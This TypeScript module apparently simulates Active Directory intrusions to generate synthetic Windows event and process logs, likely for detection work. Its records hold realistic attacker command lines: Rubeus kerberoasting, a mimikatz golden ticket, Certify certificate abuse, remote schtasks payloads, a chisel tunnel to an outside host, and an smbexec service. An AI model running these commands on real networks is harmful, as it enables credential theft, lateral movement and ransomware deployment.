/** Attacks on the domain itself: tickets, certificates, coercion, hashes that open the next machine. */
import type { Cast } from "./cast.ts";
import type { Process } from "./session.ts";
import { becomeSystem, dumpCredentials, encrypt, lookAround, moveTo, readDirectory } from "./steps.ts";

function foothold(cast: Cast): Process {
  const { intruder } = cast;
  const { machine, user } = cast.desk();
  const explorer = intruder.process(intruder.atWork(machine, user), "explorer.exe");
  return intruder.start(explorer, "powershell.exe", "powershell -enc SQBFAFgA", "ps_encoded");
}

/** A service's password from its ticket, then the service's server with it. */
export function kerberoasting(cast: Cast): void {
  const { intruder } = cast;
  const shell = foothold(cast);
  const { machine, user } = shell.session;
  intruder.start(shell, "rb.exe", "rb.exe kerberoast /outfile:h.txt", "rubeus");
  const service = cast.user();
  const ticket = {
    TargetUserName: `${user}@CORP.EXAMPLE`,
    TargetDomainName: "CORP.EXAMPLE",
    ServiceName: service,
    TicketEncryptionType: "0x17",
    IpAddress: `::ffff:${machine.ip}`,
  };
  const controller = { ...intruder.atWork(cast.controller(), user ?? ""), logonId: "0x0" };
  intruder.event(controller, 4769, "Security", ticket, "rc4_ticket kerberoast", machine.ip);
  intruder.wait(20, 300);
  const there = moveTo(cast, shell, cast.server(), service);
  lookAround(cast, there);
  dumpCredentials(cast, there);
}

/** A forged ticket: the domain's secrets, then another person's rights on a server. */
export function forgedTicket(cast: Cast): void {
  const { intruder } = cast;
  const shell = foothold(cast);
  const system = becomeSystem(cast, shell);
  dumpCredentials(cast, system);
  intruder.wait(5, 60);
  readDirectory(cast, system, cast.account());
  const tool = intruder.start(shell, "m.exe", "m.exe kerberos::golden /user:adm /ptt", "mimikatz");
  intruder.act(tool, 11, { TargetFilename: "C:\\Users\\Public\\ticket.kirbi" }, "kirbi");
  intruder.wait(5, 60);
  moveTo(cast, shell, cast.server(), cast.account());
}

/** A certificate in an administrator's name. */
export function certificate(cast: Cast): void {
  const { intruder } = cast;
  const shell = foothold(cast);
  intruder.start(shell, "cy.exe", "certify.exe request /ca:ca01\\CORP /template:Web /altname:adm", "certify");
  const admin = cast.account();
  const controller = cast.controller();
  const session = { ...intruder.atWork(controller, admin), logonId: "0x0" };
  intruder.event(
    session,
    4768,
    "Security",
    {
      TargetUserName: admin,
      TargetDomainName: "CORP",
      IpAddress: `::ffff:${shell.session.machine.ip}`,
      CertIssuerName: "CORP-CA",
    },
    "cert_mapping",
    shell.session.machine.ip,
  );
  intruder.start(shell, "rb.exe", `rb.exe asktgt /user:${admin} /certificate:x /ptt`, "rubeus");
  intruder.wait(2, 60);
  readDirectory(cast, shell, admin);
}

/** One local administrator's password on every machine: hash by hash through the servers. */
export function passTheHash(cast: Cast): void {
  const { intruder } = cast;
  let shell = foothold(cast);
  shell = becomeSystem(cast, shell);
  dumpCredentials(cast, shell);
  for (let hop = 0; hop < intruder.dice.int(2, 4); hop++) {
    intruder.wait(5, 90);
    shell = moveTo(cast, shell, cast.server(), null);
    dumpCredentials(cast, shell);
  }
}

/** A task on another machine, and by it one on the next. */
export function remoteTasks(cast: Cast): void {
  const { intruder } = cast;
  const account = cast.account();
  let shell = foothold(cast);
  lookAround(cast, shell);
  for (let hop = 0; hop < intruder.dice.int(1, 3); hop++) {
    const here = shell.session.machine;
    const next = cast.server();
    intruder.start(
      shell,
      "schtasks.exe",
      `schtasks /create /s ${next.name.split(".")[0]} /ru SYSTEM /u CORP\\${account} /tn U /tr C:\\Windows\\Temp\\u.exe`,
      "task_system",
    );
    const session = intruder.logon(next, account, { machine: here, ip: here.ip }, 3, "admin_logon");
    intruder.event(
      session,
      4698,
      "Security",
      {
        TaskName: "\\U",
        TaskContent: "<Command>C:\\Windows\\Temp\\u.exe</Command>",
        ClientProcessId: "1204",
        RpcCallClientLocality: "0",
        FQDN: next.name,
      },
      "task_remote",
    );
    const host = intruder.process(intruder.system(next), "svchost.exe", "svchost -k netsvcs -s Schedule");
    const task = intruder.start(host, "cmd.exe", "cmd /c C:\\Windows\\Temp\\u.exe", "system_shell");
    dumpCredentials(cast, task);
    shell = task;
    intruder.wait(5, 60);
  }
}

/** Evil-WinRM from one server to the next with a stolen administrator's account, and a tunnel out. */
export function remoteShells(cast: Cast): void {
  const { intruder } = cast;
  const admin = cast.account();
  const shell = foothold(cast);
  intruder.start(shell, "ch.exe", `chisel client ${intruder.outside()}:443 R:socks`, "tunnel");
  const here = shell.session.machine;
  for (let at = 0; at < intruder.dice.int(1, 3); at++) {
    const next = cast.server();
    const session = intruder.logon(next, admin, { machine: here, ip: here.ip }, 3, "evil_winrm");
    const host = intruder.process(session, "wsmprovhost.exe", "wsmprovhost.exe -Embedding");
    const cmd = intruder.start(host, "cmd.exe", "cmd /c whoami", "winrm_host winrm_child");
    lookAround(cast, cmd);
    const system = becomeSystem(cast, cmd);
    dumpCredentials(cast, system);
    intruder.wait(10, 90);
  }
}

/** A domain controller is taken over the network, with no account at all, and everything encrypted from it. */
export function domainAtOnce(cast: Cast): void {
  const { intruder } = cast;
  const shell = foothold(cast);
  const controller = cast.controller();
  intruder.event(intruder.system(controller), 5805, "System", { Data: "mimikatz" }, "zerologon");
  intruder.wait(1, 10);
  const ip = shell.session.machine.ip;
  const session = intruder.logon(
    controller,
    "Administrator",
    { machine: shell.session.machine, ip },
    3,
    "pass_the_hash",
  );
  intruder.event(
    session,
    7045,
    "System",
    {
      ServiceName: "BTOBTO",
      ImagePath: "%COMSPEC% /Q /c echo cd > \\\\127.0.0.1\\C$\\__output",
      AccountName: "LocalSystem",
    },
    "smbexec service_odd",
  );
  intruder.wait(5, 60);
  const admin = cast.account();
  const hosts = Array.from({ length: intruder.dice.int(4, 14) }, () =>
    intruder.dice.chance(0.4) ? cast.server() : cast.workstation(),
  );
  encrypt(cast, hosts, admin, { machine: controller, ip: controller.ip });
}
